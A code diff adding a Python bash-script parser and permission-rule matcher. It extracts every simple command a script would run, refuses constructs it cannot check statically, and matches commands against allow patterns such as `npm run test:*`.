+                _text(c, src)
+                for c in node.children
+                if not c.is_named or c.type == "file_descriptor"
+            )
+            targets = node.children_by_field_name("destination")
+            target = _word(targets[0], src)[0] if targets else ""
+            if op.endswith("&-") and not targets:  # '2>&-' closes a descriptor: like '2>&' '-'
+                op, target = op[:-1], "-"
+            redirects.append(Redirect(op, target))
+            words.extend(targets[1:])
+        elif kind == "heredoc_redirect":
+            op = "".join(_text(c, src) for c in node.children if c.type in ("<<", "<<-"))
+            for child in node.named_children:
+                if child.type == "heredoc_start":
+                    redirects.append(Redirect(op or "<<", _delimiter(_text(child, src))))
+                elif child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
+                    more, extra = self.redirect(child, src)
+                    redirects.extend(more)
+                    words.extend(extra)
+        elif kind == "herestring_redirect":
+            value = [c for c in node.named_children if c.type != "file_descriptor"]
+            redirects.append(Redirect("<<<", _word(value[0], src)[0] if value else ""))
+        return redirects, words
+
+    def heredoc_body(self, node: Any, src: bytes) -> None:
+        redirect = node.parent
+        start = next((c for c in redirect.named_children if c.type == "heredoc_start"), None)
+        if start is not None and re.search(r"['\"\\]", _text(start, src)):
+            return  # a quoted delimiter: the body is literal text
+        # The literal text of the body: the parts the grammar did not parse as expansions.
+        literal = bytearray()
+        position = node.start_byte
+        for child in node.named_children:
+            if child.type != "heredoc_content":
+                literal += src[position : child.start_byte]
+                position = child.end_byte
+        literal += src[position : node.end_byte]
+        if re.search(rb"`|\$\(", bytes(literal)):
+            raise ShellParseError(
+                "a heredoc runs a command substitution the parser cannot read; "
+                "use $(...) or quote the delimiter (<<'EOF')"
+            )
+        self.push_children(node, src, ())
+
+
+def _refuse_arithmetic_operands(node: Any, src: bytes) -> None:
+    for side in ("left", "right"):
+        operand = node.child_by_field_name(side)
+        if operand is not None and operand.type != "number":
+            raise ShellParseError(
+                f"{_text(node, src)!r} compares as arithmetic, and bash runs commands hidden "
+                "in a variable's value there; cannot check it"
+            )
+
+
+def _key(node: Any, src: bytes) -> tuple[int, int, int, str]:
+    """A node's identity across the wrappers py-tree-sitter makes on each access."""
+    return (id(src), node.start_byte, node.end_byte, node.type)
+
+
+def _delimiter(text: str) -> str:
+    return text.replace("'", "").replace('"', "").replace("\\", "")
+
+
+def _has_commands(node: Any) -> bool:
+    """Whether a subtree holds a command outside substitutions (a redirect's subject)."""
+    stack = [node]
+    while stack:
+        part = stack.pop()
+        if part.type in _PRODUCERS or part.type == "redirected_statement":
+            return True
+        if part.type not in _SUBSTITUTIONS:
+            stack.extend(part.named_children)
+    return False
+
+
+def _shell_script_index(words: Sequence[str | None]) -> int | None:
+    """Where the ``-c`` script is in a shell's arguments, or None when there is no ``-c``."""
+    command_mode = False
+    i = 0
+    while i < len(words):
+        word = words[i]
+        if word is None:
+            if command_mode:
+                break  # the script itself, refused by the caller if it is not constant
+            raise ShellParseError("a shell option only known at run time may be -c")
+        if word == "--" or word == "-":
+            i += 1
+            break
+        if word.startswith("--"):
+            i += 1  # --norc, --login ...: none of bash's long options take a value
+            continue
+        if word[:1] in ("-", "+") and len(word) > 1:
+            letters = word[1:]
+            command_mode = command_mode or "c" in letters
+            i += 1
+            if letters[-1] in ("o", "O"):
+                i += 1  # -o pipefail, -O extglob
+            continue
+        break
+    return i if command_mode and i < len(words) else None
+
+
+def _trap_action_index(words: Sequence[str | None]) -> int | None:
+    """Where trap's action is (``trap 'rm -f x' EXIT``), or None for a reset or listing."""
+    if "--" in words:
+        operands = list(range(words.index("--") + 1, len(words)))
+    else:
+        operands = [i for i, w in enumerate(words) if w is None or not w.startswith("-")]
+    if len(operands) < 2:
+        return None
+    return operands[0]
+
+
+def parse_commands(script: str) -> list[Command]:
+    """Every simple command the script would run, in source order, including those inside
+    $(...), backticks, <(...), subshells, pipelines, lists, if/while/for/case bodies,
+    function bodies, and the script of `bash -c '...'` / `sh -c '...'` (parsed in turn).
+    Raises ShellParseError for a syntax error (tree-sitter ERROR/MISSING nodes), and for
+    what cannot be known statically: a command name that is an expansion ($CMD, $(...)),
+    `eval`, and anything else you judge unknowable. Words keep their literal text with
+    quotes removed where the value is static ('a b' -> a b); a word with an expansion
+    keeps its source text.
+
+    The module docstring lists what is looked into and what is refused. An empty script,
+    or one of only comments and assignments, runs no command: the list is empty.
+    """
+    if not isinstance(script, str):
+        raise ShellParseError(f"a command must be text, not {type(script).__name__}")
+    root, src = _parse_tree(script)
+    return _Walker(len(src)).run(root, src)
+
+
+# --- matching -------------------------------------------------------------------------
+
+_MAY_EXPAND = re.compile(r"[$`*?\[{]|^~")
+
+
+def command_matches(pattern: str, command: Command) -> bool:
+    """Whether a rule's command pattern matches one command. Pattern syntax, to document
+    in the module docstring with examples: words split like a shell would (shlex);
+    each word matches exactly, or with fnmatch wildcards (`*`, `?`, `[...]`) inside one
+    word; a final word `*` matches any remaining words (zero or more); Claude Code's
+    prefix form `npm run test:*` means the command starts with the words `npm run test`
+    (any further words or a `:suffix` on the last word, e.g. `npm run test:unit`).
+
+    A pattern that is empty or that shlex cannot split matches nothing, and so does a
+    command with no words (a bare redirection).
+    """
+    try:
+        words = shlex.split(pattern)
+    except ValueError:
+        return False
+    argv = command.argv
+    if not words or not argv:
+        return False
+    last = words[-1]
+    if last == "*":
+        return _prefix_matches(words[:-1], argv)
+    if last.endswith(":*") and len(last) > 2:
+        stem = last[:-2]
+        head = words[:-1]
+        if len(argv) < len(words) or not _prefix_matches(head, argv[: len(head)]):
+            return False
+        word = argv[len(head)]
+        if _word_matches(stem, word):
+            return True
+        # npm run test:unit: the last word may carry a ':suffix'
+        base, colon, _suffix = word.partition(":")
+        return bool(colon) and not _MAY_EXPAND.search(word) and _word_matches(stem, base)
+    return len(words) == len(argv) and _prefix_matches(words, argv)
+
+
+def _prefix_matches(words: Sequence[str], argv: Sequence[str]) -> bool:
+    """Whether ``argv`` starts with words matching ``words`` one to one."""
+    if len(argv) < len(words):
+        return False
+    return all(_word_matches(p, w) for p, w in zip(words, argv))
+
+
+def _word_matches(pattern: str, word: str) -> bool:
+    if pattern == word:
+        return True
+    if _MAY_EXPAND.search(word):
+        return False  # may become other words at run time: only the same text matches
+    return fnmatch.fnmatchcase(word, pattern)
